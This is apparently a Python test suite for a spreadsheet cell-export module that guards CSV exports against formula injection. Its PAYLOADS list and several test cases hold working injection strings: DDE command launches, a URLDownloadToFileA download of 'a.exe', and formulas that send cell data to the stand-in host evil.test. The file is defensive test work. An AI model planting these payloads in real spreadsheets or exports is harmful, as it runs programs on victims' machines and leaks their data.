"""What a value is in a cell."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from theodore.sheets.cells import (
    CUT_MARK,
    SHEETS_LIMIT,
    XLSX_LIMIT,
    cell_text,
    clean,
    csv_cell,
    cut,
    line_feeds,
    may_run,
    sheet_value,
    unmarked,
)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        pytest.param(None, "", id="nothing is nothing"),
        pytest.param("", "", id="no text"),
        pytest.param([], "", id="an empty list is nothing"),
        pytest.param({}, "", id="an empty mapping is nothing"),
        pytest.param((), "", id="an empty tuple is nothing"),
        pytest.param(["a", "b"], "a; b", id="a list"),
        pytest.param(("a", 1, True), "a; 1; TRUE", id="a tuple of this and that"),
        pytest.param(["a", None, "", [], "b"], "a; b", id="blanks in a list are left out"),
        pytest.param({"x": "1", "y": 2}, "x: 1; y: 2", id="a mapping"),
        pytest.param({"x": None, "y": 2}, "y: 2", id="blanks in a mapping are left out"),
        pytest.param([{"date": "2026", "title": "T"}, {"title": "U"}], "date: 2026, title: T; title: U", id="nested"),
        pytest.param({"x": ["a", "b"]}, "x: a, b", id="a list in a mapping"),
        pytest.param([["a", "b"], ["c"]], "a, b; c", id="a list in a list"),
        pytest.param(True, "TRUE", id="true"),
        pytest.param(False, "FALSE", id="false is a value"),
        pytest.param(0, "0", id="so is zero"),
        pytest.param(0.45, "0.45", id="a fraction"),
        pytest.param(float("nan"), "", id="not a number is nothing"),
        pytest.param(float("inf"), "", id="nor is infinity"),
        pytest.param(datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05+00:00", id="a time"),
        pytest.param(
            datetime(2026, 1, 2, 3, tzinfo=timezone(timedelta(hours=2))), "2026-01-02T03:00:00+02:00", id="its offset"
        ),
        pytest.param(datetime(2026, 1, 2), "2026-01-02T00:00:00+00:00", id="a time without offset is UTC"),  # noqa: DTZ001 - the case under test
        pytest.param(date(2026, 1, 2), "2026-01-02", id="a day"),
        pytest.param("007", "007", id="text is never a number"),
    ],
)
def test_values_in_words(value: Any, text: str) -> None:
    assert cell_text(value) == text
    assert csv_cell(value) == text


#: Texts as they were found to start programs, fetch addresses or hide among plain words.
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "-2+3+cmd|'/C calc'!A0",
    "+2+5+cmd|'/C calc'!A0",
    "=2+5+cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.test/",A1:E1),"//a")',
    '=IMPORTFEED("http://evil.test")',
    '=IMPORTHTML("http://evil.test","table",1)',
    '=IMPORTRANGE("https://evil.test","Sheet1!A1")',
    '=IMPORTDATA("http://evil.test")',
    '=IMAGE("http://evil.test/i.png")',
    '=WEBSERVICE("http://evil.test")',
    '=FILTERXML(WEBSERVICE("http://evil.test"),"//a")',
    '=RTD("evil",,"x")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.test","a.exe",0,0)',
    '=EXEC("calc")',
    '=REGISTER.ID("Kernel32","WinExec")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "@A1",
    "+A1",
    "-A1",
    "=",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0bcmd|'/C calc'!A0",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=1+1;=2+2",
    "- a list's first point",
    "@theodore",
    "+1-1",
    "-1+1",
    "+49 30 1234567; =1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_might_run_is_text(payload: str) -> None:
    cell = csv_cell(payload)
    assert cell.startswith("'")
    assert _parts_that_run(cell) == []
    # apostrophes were put in, and nothing else was changed
    assert cell.replace("'", "") == clean(payload).replace("'", "")
    if not re.search("[;,|\t\r\n]", payload):
        assert cell[1:] == clean(payload)


def _parts_that_run(cell: str) -> list[str]:
    """What may do something, of the parts into which some spreadsheet may split the cell: all that each takes."""
    starts = [0, *(found.end() for found in re.finditer("[;,|\t\r\n]", cell))]
    parts = [cell[start:].lstrip(' \t\r\n"\u00a0\u200b\ufeff') for start in starts]
    return [part for part in parts if re.match("[=\uff1d]|[+@\\-][^;,|\t\r\n]*[A-Za-z][(]", part)]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        pytest.param(
            'Hello;=HYPERLINK("http://e/";"x")', 'Hello;\'=HYPERLINK("http://e/";"x")', id="after a semicolon"
        ),
        pytest.param("line\n=cmd|' /C calc'!A0", "line\n'=cmd|' /C calc'!A0", id="after a line end"),
        pytest.param("line\r=1+1", "line\r'=1+1", id="after the line end of old"),
        pytest.param("a\t=1+1", "a\t'=1+1", id="after a tab"),
        pytest.param("x,=1+1", "x,'=1+1", id="after a comma"),
        pytest.param("x|=1+1", "x|'=1+1", id="after a bar"),
        pytest.param("x; =1+1", "x; '=1+1", id="after a space that is dropped"),
        pytest.param("x;\u200b\ufeff=1+1", "x;\u200b\ufeff'=1+1", id="after what nobody sees"),
        pytest.param('x;"=1+1"', 'x;"\'=1+1"', id="after a quote, which such a cell would lose"),
        pytest.param("x;;=1;=2", "x;;'=1;'=2", id="each of them"),
        pytest.param("x;\uff1d1+1", "x;'\uff1d1+1", id="a wide sign"),
        pytest.param("x;-cmd|'/C calc'!A0", "x;'-cmd|'/C calc'!A0", id="a minus before a command"),
        pytest.param("x;+SUM(A1)", "x;'+SUM(A1)", id="a plus before a call"),
        pytest.param("x;@SUM(A1)", "x;'@SUM(A1)", id="an at before a call"),
        pytest.param("x;-'file:///y'#$S.A1", "x;'-'file:///y'#$S.A1", id="another file's cell"),
        pytest.param("x;+493012345678+SUM(A1)", "x;'+493012345678+SUM(A1)", id="what only begins as a phone number"),
        pytest.param("x; -1,5+SUM(A1)", "x; '-1,5+SUM(A1)", id="what only begins as a number with a comma"),
        pytest.param("+493012345678; =1+1", "'+493012345678; '=1+1", id="a formula among phone numbers"),
    ],
)
def test_a_formula_within_a_text_is_text_whatever_parts_the_cells(text: str, cell: str) -> None:
    assert csv_cell(text) == cell
    assert unmarked(cell) == text
    assert unmarked(csv_cell(cell)) == cell, "what has apostrophes of its own keeps them"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("before", ["x;", "x,", "x|", "x\t", "x\n", 'x; "'])
def test_no_payload_runs_behind_a_mark(payload: str, before: str) -> None:
    assert _parts_that_run(csv_cell(before + payload)) == []


def test_a_long_text_of_marks_is_searched_once() -> None:
    # in the square of its length this would take minutes
    for text in ("\n" * 500_000, ', -"' * 200_000, "; +1" * 200_000 + "("):
        csv_cell(text, limit=10**7)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_in_a_list_too(payload: str) -> None:
    assert csv_cell([payload, "b"]).startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_knows_its_type_needs_no_apostrophe(payload: str) -> None:
    assert sheet_value(payload) == line_feeds(clean(payload))


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("+493012345678", id="E.164"),
        pytest.param("+49 (0)30 / 123-456.78", id="a phone number as people write it"),
        pytest.param("+1 (555) 010-9999", id="an American one"),
        pytest.param("+493012345678; +493012345679", id="two of them"),
        pytest.param("-5", id="a negative number"),
        pytest.param("-1,234.50", id="with its groups"),
        pytest.param("+3.2 %", id="a share"),
        pytest.param("-1.5e-3", id="as a computer writes it"),
        pytest.param("a=b", id="the sign inside"),
        pytest.param("x@y.de", id="a mail address"),
        pytest.param("'tis", id="an apostrophe of its own"),
        pytest.param("'+493012345678", id="a phone number behind one"),
        pytest.param("Müller + Söhne", id="plain words"),
        pytest.param("a, -b", id="a dash within a sentence"),
        pytest.param("Open Mon-Fri, - closed on Sunday; + parking", id="dashes and pluses of prose"),
        pytest.param("First\n- one\n- two", id="a list of points"),
        pytest.param("Write to us, @theodore", id="a name on a network"),
        pytest.param("Rows (3), +49 (0)30 1234567; -1,5; +3 %; net (b)", id="figures before a bracket"),
        pytest.param("phone: +49 (0)30 1234567; +1 (555) 010-9999", id="phone numbers in a mapping"),
        pytest.param("x; '-5", id="a number behind an apostrophe, within"),
        pytest.param("E = mc2; a=b, c=d", id="signs between words"),
    ],
)
def test_what_cannot_run_is_left_alone(text: str) -> None:
    assert csv_cell(text) == text
    assert unmarked(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        pytest.param("'=1+1", "''=1+1", id="one before a formula"),
        pytest.param("''=1+1", "'''=1+1", id="two"),
        pytest.param("x; '=1+1", "x; ''=1+1", id="within"),
        pytest.param("'\t=1", "''\t'=1", id="before a tab"),
        pytest.param("'-5+SUM(A1)", "''-5+SUM(A1)", id="before what only begins as a number"),
    ],
)
def test_an_apostrophe_of_the_texts_own_is_told_from_ours(text: str, cell: str) -> None:
    assert csv_cell(text) == cell
    assert unmarked(cell) == text


@pytest.mark.parametrize("value", [-5, -0.5, -(10**30)])
def test_numbers_below_zero_are_numbers(value: float) -> None:
    assert csv_cell(value) == str(value)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param(None, None, id="nothing"),
        pytest.param("", None, id="no text"),
        pytest.param([], None, id="an empty list"),
        pytest.param(float("nan"), None, id="not a number"),
        pytest.param(5, 5, id="a number"),
        pytest.param(-0.5, -0.5, id="a fraction"),
        pytest.param(True, True, id="a truth value"),
        pytest.param(2**53, 2**53, id="the last whole number that a spreadsheet holds"),
        pytest.param(2**53 + 1, str(2**53 + 1), id="a longer one stays exact as text"),
        pytest.param("5", "5", id="text of digits is text"),
        pytest.param(["a", "b"], "a; b", id="a list"),
    ],
)
def test_typed_values(value: Any, cell: Any) -> None:
    assert sheet_value(value) == cell
    assert type(sheet_value(value)) is type(cell)


@pytest.mark.parametrize("limit", [XLSX_LIMIT, SHEETS_LIMIT])
@pytest.mark.parametrize("sign", ["a", "ü", "😀"])
def test_a_text_over_the_limit_is_cut_with_a_mark(sign: str, limit: int) -> None:
    units = len(sign.encode("utf-16-le")) // 2
    fits = sign * (limit // units)
    assert cut(fits, limit) == fits
    short = cut(fits + sign, limit)
    assert short.endswith(sign + CUT_MARK)
    assert limit - 2 <= len(short.encode("utf-16-le")) // 2 <= limit


@given(text=st.text(), limit=st.integers(10, 40))
def test_a_cut_text_is_a_beginning_of_the_whole(text: str, limit: int) -> None:
    short = cut(text, limit)
    assert len(short.encode("utf-16-le", "surrogatepass")) // 2 <= limit
    assert text.startswith(short.removesuffix(CUT_MARK))


@given(text=st.text(st.characters(codec=None)))
def test_clean_text_fits_every_format(text: str) -> None:
    cleaned = clean(text)
    assert clean(cleaned) == cleaned
    cleaned.encode()
    assert not set(cleaned) & {*map(chr, range(9)), "\x0b", "\x0c", "\ufffe"}


def test_what_is_readable_is_not_cleaned() -> None:
    text = "a\tb\nc\r\nüß😀—„“"
    assert clean(text) == text
    assert clean("a\ud800b") == "a\ufffdb"


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner, max_size=4),
    max_leaves=12,
)


@given(value=_VALUES)
def test_no_value_makes_a_cell_that_runs(value: Any) -> None:
    cell = csv_cell(value)
    assert isinstance(value, int | float) or not may_run(cell)
    assert cell not in {"[]", "{}", "None"} or isinstance(value, str | list | dict)
    assert len(cell.encode("utf-16-le")) // 2 <= XLSX_LIMIT


@given(value=_VALUES)
def test_every_cell_comes_back_from_a_csv_file(value: Any) -> None:
    cell = csv_cell(value)
    file = io.StringIO(newline="")
    csv.writer(file).writerow([cell, "end"])
    file.seek(0)
    assert next(csv.reader(file)) == [cell, "end"]


_TRICKY = st.text(
    st.sampled_from("=+-@\uff1d\uff0b'\"'';,| \t\r\n\u200b\u00a0(!#[e.%1290aA\0\u2028") | st.characters(), max_size=24
)


@settings(max_examples=500)
@given(text=_TRICKY)
def test_what_was_made_safe_can_be_read_again(text: str) -> None:
    assert unmarked(csv_cell(text)) == clean(text)


@given(value=_VALUES)
def test_so_can_every_value(value: Any) -> None:
    assert unmarked(csv_cell(value)) == clean(cell_text(value))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("before", ["", "'", "x;", "x;'", "'x\n''", '", '])
def test_every_payload_can_be_read_again(payload: str, before: str) -> None:
    assert unmarked(csv_cell(before + payload)) == clean(before + payload)


@given(cell=_TRICKY)
def test_a_persons_cell_that_was_read_is_written_the_same_from_then_on(cell: str) -> None:
    once = csv_cell(unmarked(cell))
    assert csv_cell(unmarked(once)) == once


def test_a_long_text_of_apostrophes_is_searched_once() -> None:
    for text in ("'" * 500_000, ";'" * 250_000 + "=(", "'=;" * 200_000):
        assert unmarked(csv_cell(text, limit=10**7)) == text
